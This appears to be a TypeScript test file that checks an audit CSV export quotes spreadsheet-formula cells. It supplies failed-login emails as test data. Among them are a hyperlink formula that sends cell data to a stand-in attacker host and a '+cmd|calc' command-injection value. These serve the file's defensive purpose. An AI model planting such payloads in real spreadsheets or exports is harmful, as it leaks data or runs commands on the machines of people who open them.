import { createTestApp, type TestApp } from '../../support/test-app.js';

/** Issue 12: user-supplied text (an email tried at sign-in) must not run as a formula in a spreadsheet. */
describe('audit CSV export: formula injection', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(async () => {
    await t.close();
  });

  it('prefixes cells that start with = + - @ with a quote, so spreadsheets show them as text', async () => {
    const auditor = await t.createUser(['auditor']);
    // Stored lower-cased, as the sign-in normalises emails.
    const emails = ['=hyperlink("http://evil.example/?"&a1,"open")', '+cmd|calc', '-1+2', '@sum(1)'];
    for (const email of emails) {
      const refused = await t.request('POST', '/api/v1/auth/token', {
        body: { email, password: 'not the password' },
      });
      expect(refused.status).toBe(401);
    }
    const response = await t.request('GET', '/api/v1/audit/export?format=csv&action=auth.failed_login', {
      token: auditor.token,
    });
    expect(response.status).toBe(200);
    expect(String(response.headers['content-type'])).toContain('text/csv');
    const text = response.body as string;
    const rows = text.trimEnd().split('\r\n').slice(1);
    expect(rows).toHaveLength(emails.length);
    for (const email of emails) {
      const neutral = `'${email}`;
      const quoted = /[",]/.test(neutral) ? `"${neutral.replaceAll('"', '""')}"` : neutral;
      expect(text).toContain(`,${quoted},`);
      // Nowhere does a cell start with the raw formula.
      expect(text).not.toMatch(new RegExp(`(^|[,\\n])"?${escape(email.slice(0, 4))}`));
    }
  });
});

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
